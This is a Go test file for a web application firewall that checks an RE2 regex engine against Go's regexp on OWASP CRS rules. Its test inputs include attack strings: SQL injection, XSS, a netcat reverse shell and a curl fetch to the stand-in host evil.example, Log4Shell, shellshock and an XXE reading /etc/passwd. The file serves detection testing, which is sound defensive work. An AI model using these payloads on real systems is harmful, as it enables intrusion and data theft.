//go:build re2_cgo

package waf

import (
	"net/http/httptest"
	"net/netip"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"

	"github.com/rampart-gw/rampart/internal/reqctx"
)

// crsPatterns are the arguments of every @rx in the CRS, as Coraza's
// parser hands them to the operator: a WAF is built with a spy standing
// in for the operator, then the operator is put back.
var crsPatterns = sync.OnceValues(func() ([]string, error) {
	var mu sync.Mutex
	var seen []string
	plugins.RegisterOperator("rx", func(o plugintypes.OperatorOptions) (plugintypes.Operator, error) {
		mu.Lock()
		seen = append(seen, o.Arguments)
		mu.Unlock()
		return newRE2Operator(o)
	})
	defer plugins.RegisterOperator("rx", newRE2Operator)
	_, err := New(Options{Paranoia: 4, Threshold: 5, BodyLimit: 1 << 20})
	slices.Sort(seen)
	return slices.Compact(seen), err
})

// rxInputs are values the rules meet: benign API data, attacks of each
// family the CRS covers, and bytes that are not UTF-8.
var rxInputs = []string{
	"", "a", "jane.doe@example.com", "Widget, brushed steel", "WID-0037", "12.5", "c-8f14e45f",
	"Please leave the parcel with the neighbour at number 14 if nobody is home.",
	"application/json", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"/api/v1/items?page=2&sort=name", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "Drop Table Lamp (oak)",
	"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --",
	"1 AND SLEEP(5)", "admin'/*", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"javascript:alert(document.cookie)", "<svg/onload=alert(1)>", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
	"; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x)", "`id`",
	"${jndi:ldap://evil.example/a}", "{{7*7}}", "<?php system($_GET['c']); ?>", "() { :; }; /bin/bash -c id",
	"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "http://169.254.169.254/latest/meta-data/",
	"line one\nline two\r\nSELECT * FROM t", "\x00\x01\x02", "\xff<script>alert(1)</script>", "caf\xc3", "\xc3\xa9t\xe9",
	"' or 1=1 \xfe--", "ＳＥＬＥＣＴ", strings.Repeat("a", 5000) + "<script>",
}

// TestRE2MatchesGo holds RE2 to Go's regexp, the engine of stock Coraza's
// @rx, on every CRS pattern and every input: the same verdict and the
// same capture groups, so the rules behave as the CRS project tests them.
func TestRE2MatchesGo(t *testing.T) {
	patterns, err := crsPatterns()
	if err != nil {
		t.Fatal(err)
	}
	if len(patterns) < 200 {
		t.Fatalf("only %d @rx patterns found in the CRS", len(patterns))
	}
	for _, p := range patterns {
		op, err := newRE2Operator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		want := regexp.MustCompile("(?sm)" + p)
		if bytePattern(p) {
			continue // binaryregexp, as in Coraza: no second engine to compare
		}
		for _, in := range rxInputs {
			tx := &captures{on: true}
			got := op.Evaluate(tx, in)
			loc := want.FindStringSubmatchIndex(in)
			if got != (loc != nil) {
				t.Errorf("%q on %q: re2 %v, go %v", p, in, got, loc != nil)
				continue
			}
			for i := 0; i < len(loc)/2 && i < 9; i++ {
				w := ""
				if loc[2*i] >= 0 {
					w = in[loc[2*i]:loc[2*i+1]]
				}
				if tx.fields[i] != w {
					t.Errorf("%q on %q: group %d re2 %q, go %q", p, in, i, tx.fields[i], w)
				}
			}
		}
	}
}

// TestBytePattern: which patterns Coraza matches on bytes.
func TestBytePattern(t *testing.T) {
	for _, tc := range []struct {
		expr string
		want bool
	}{
		{`abc`, false},
		{`\x41\x42`, false},
		{`[\x00-\x1f]`, false},
		{`\xff`, true},
		{`[\x80-\xff]`, true},
		{`\xc3\xa9`, false}, // é, valid UTF-8
		{`\xc3`, true},
		{`\x{ff}`, true},
		{`\x{263a}`, false},
		{`\\xff`, false}, // an escaped backslash, then "xff"
		{`é`, false},
		{`\x`, false},
		{`\xZZ`, false},
	} {
		if got := bytePattern(tc.expr); got != tc.want {
			t.Errorf("bytePattern(%q) = %v, want %v", tc.expr, got, tc.want)
		}
	}
}

// TestInvalidUTF8DoesNotHideAttacks: RE2 stops at a byte that is not
// UTF-8; such input goes to Go's regexp, so junk before a payload does not
// get it past the rules.
func TestInvalidUTF8DoesNotHideAttacks(t *testing.T) {
	w, err := New(Options{Paranoia: 1, Threshold: 5, BodyLimit: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	s := &Stage{WAF: w}
	for _, q := range []string{"q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%FF%3Cscript%3Ealert(1)%3C/script%3E", "q=%C3%3Cscript%3Ealert(1)%3C/script%3E"} {
		r := httptest.NewRequest("GET", "/search?"+q, nil)
		r = r.WithContext(reqctx.With(r.Context(), &reqctx.State{ClientIP: netip.MustParseAddr("192.0.2.1")}))
		tx := w.NewTransaction()
		it := s.inspect(tx, r, nil)
		_ = tx.Close()
		if it == nil {
			t.Errorf("%s: not blocked", q)
		}
	}
}

// FuzzRE2MatchesGo: for any input, RE2 and Go's regexp agree on the CRS
// patterns (the verdict and group 0).
func FuzzRE2MatchesGo(f *testing.F) {
	for _, in := range rxInputs {
		f.Add(in)
	}
	patterns, err := crsPatterns()
	if err != nil {
		f.Fatal(err)
	}
	type pair struct {
		op plugintypes.Operator
		re *regexp.Regexp
	}
	var pairs []pair
	for _, p := range patterns {
		if bytePattern(p) {
			continue
		}
		op, err := newRE2Operator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			f.Fatal(err)
		}
		pairs = append(pairs, pair{op, regexp.MustCompile("(?sm)" + p)})
	}
	f.Fuzz(func(t *testing.T, in string) {
		for _, pr := range pairs {
			tx := &captures{on: true}
			got := pr.op.Evaluate(tx, in)
			loc := pr.re.FindStringIndex(in)
			if got != (loc != nil) || (got && tx.fields[0] != in[loc[0]:loc[1]]) {
				t.Fatalf("%q on %q: re2 %v %q, go %v", pr.re, in, got, tx.fields[0], loc)
			}
		}
	})
}

// captures is the part of a transaction the operator uses.
type captures struct {
	plugintypes.TransactionState
	on     bool
	fields [10]string
}

func (c *captures) Capturing() bool              { return c.on }
func (c *captures) CaptureField(i int, v string) { c.fields[i] = v }

// TestMinLength: a lower bound on what each pattern can match, in runes.
func TestMinLength(t *testing.T) {
	for _, tc := range []struct {
		expr string
		want int
	}{
		{`abc`, 3},
		{`(?i)select\s+from`, 11},
		{`a|bc`, 1},
		{`(?:ab)+c*`, 2},
		{`x{3,5}`, 3},
		{`^$`, 0},
		{`é`, 1}, // one rune; an invalid byte can stand for a rune
		{`[a-z]?`, 0},
		{`(?:union|select)\b`, 5},
	} {
		if got := minLength(regexp.MustCompile("(?sm)" + tc.expr)); got != tc.want {
			t.Errorf("minLength(%q) = %d, want %d", tc.expr, got, tc.want)
		}
	}
}
